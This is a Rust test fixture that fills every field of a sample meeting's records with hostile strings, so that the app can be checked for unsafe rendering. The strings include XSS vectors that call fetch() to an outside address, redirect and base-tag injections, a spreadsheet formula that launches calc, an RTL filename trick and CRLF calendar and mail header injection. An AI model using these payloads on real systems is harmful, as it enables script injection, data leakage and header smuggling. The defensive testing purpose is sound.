//! Texts as somebody would send them who means harm, and the sample meeting with one of them in every field of every record.

use crate::people::{now, passphrase};
use domain::action::Action;
use domain::agenda::{AgendaItem, Room};
use domain::challenge::Challenge;
use domain::concept::{Concept, Statement};
use domain::delegation::Delegation;
use domain::guest::Guest;
use domain::meeting::{Meeting, Series};
use domain::milestone::Milestone;
use domain::note::Note;
use domain::participant::Participant;
use domain::person::Person;
use domain::practice::Practice;
use domain::question::{Question, Response};
use domain::verb::{OfDay, Verb};
use ops::Store;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;

/// What each text carries, so that it is known wherever it became more than a text.
pub const MARK: &str = "data-hostile";

/// Ways to become more than a text; `#` is the address outside, `*` the mark.
const WAYS: [&str; 24] = [
    "<img * src=x onerror=\"window.ran=1;fetch('#')\">",
    "<svg * onload=\"window.ran=1\"></svg>",
    "<script *>window.ran=1;fetch('#')</script>",
    "<iframe * src='#'></iframe>",
    "<object * data='#'></object>",
    "<embed * src='#'>",
    "<link * rel=stylesheet href='#'>",
    "<meta * http-equiv=refresh content='0;url=#'>",
    "<style *>@import '#';body{display:none}</style>",
    "<base * href='#'>",
    "<form * action='#'><input autofocus onfocus=window.ran=1></form>",
    "<a * href='javascript:window.ran=1'>Open</a>",
    "<video * src='#' onerror=window.ran=1></video>",
    "<details * open ontoggle=window.ran=1>",
    "<math *><mtext></mtext><script>window.ran=1</script></math>",
    "<noscript><p title='</noscript><img * src=x onerror=window.ran=1>'>",
    "<template *><img src='#'></template>",
    "<div * style='position:fixed;inset:0;background:url(#)'></div>",
    "&lt;img * src=x onerror=window.ran=1&gt;",
    "&#60;img * src=x onerror=window.ran=1&#62;",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} *",
    "![*](#) [open](javascript:window.ran=1)",
    "\u{202e}gpj.*\u{2066}<b *>",
    "=HYPERLINK(\"#\",\"*\") @SUM(1) +cmd|' /C calc'!A0",
];

/// What they stand behind, to get out of what they are written into.
const BEFORE: [&str; 15] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "]]>",
    "\\",
    "*/;",
    LINES,
];

/// Lines that a calendar or a mail would take for its own.
pub const LINES: &str = "\r\nATTENDEE;X=1:mailto:a@example.test\r\nBcc: a@example.test\r\n\r\n";

/// How many different ones are in a file at least, see the aim.
pub const TEXTS: usize = 316;

/// Everything behind everything; `address` is where something outside listens.
pub fn texts(address: &str) -> Vec<String> {
    let way = |before: &str, way: &str| format!("{before}{}", way.replace('#', address).replace('*', MARK));
    BEFORE.iter().flat_map(|before| WAYS.iter().map(|one| way(before, one))).collect()
}

/// Every text within a record, by where it stands.
fn places(value: &Value, at: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(at.to_owned()),
        Value::Array(values) => {
            for (index, one) in values.iter().enumerate() {
                places(one, &format!("{at}/{index}"), found);
            }
        }
        Value::Object(fields) => {
            for (name, one) in fields {
                places(one, &format!("{at}/{name}"), found);
            }
        }
        _ => {}
    }
}

/// Puts the next text wherever the record takes it, and notes which it took. What others find it by, its reference and its
/// codes, stays.
fn filled<'a>(
    mut record: Value,
    texts: &mut impl Iterator<Item = &'a String>,
    taken: &mut BTreeSet<&'a str>,
    fits: impl Fn(&Value) -> bool,
) -> Value {
    const KEPT: [&str; 4] = ["/reference", "/code", "/party", "/host"];
    let mut found = Vec::new();
    places(&record, "", &mut found);
    for place in found.into_iter().filter(|place| !KEPT.iter().any(|kept| place.ends_with(kept))) {
        let (Some(text), Some(value)) = (texts.next(), record.pointer_mut(&place)) else { continue };
        let was = std::mem::replace(value, json!(text));
        if fits(&record) {
            taken.insert(text);
        } else if let Some(value) = record.pointer_mut(&place) {
            *value = was;
        }
    }
    record
}

/// Fills every record of some kinds.
macro_rules! fill {
    ($unit:ident, $texts:ident, $taken:ident: $($record:ty),+) => {
        $(for record in $unit.all::<$record>().await? {
            let value = serde_json::to_value(&record).unwrap_or_default();
            let fits = |value: &Value| serde_json::from_value::<$record>(value.clone()).is_ok();
            if let Ok(mut record) = serde_json::from_value::<$record>(filled(value, &mut $texts, &mut $taken, fits)) {
                $unit.save(&mut record).await?;
            }
        })+
    };
}

/// Makes the sample meeting with hostile texts in every field; says how many different ones are in it.
pub async fn make(file: &Path, texts: &[String]) -> ops::Result<(Store, usize)> {
    let (store, _) = ops::sample::create(file, &passphrase(), now()).await?;
    let mut unit = store.begin(now()).await?;
    unit.step(Verb::ApplyTemplate(OfDay { day: None }));
    let mut texts = texts.iter().cycle();
    let mut taken = BTreeSet::new();
    fill!(unit, texts, taken: Series, Meeting, Person, Participant, Delegation, Room, AgendaItem, Guest, Note);
    fill!(unit, texts, taken: Practice, Challenge, Concept, Statement, Action, Question, Response, Milestone);
    unit.commit().await?;
    Ok((store, taken.len()))
}
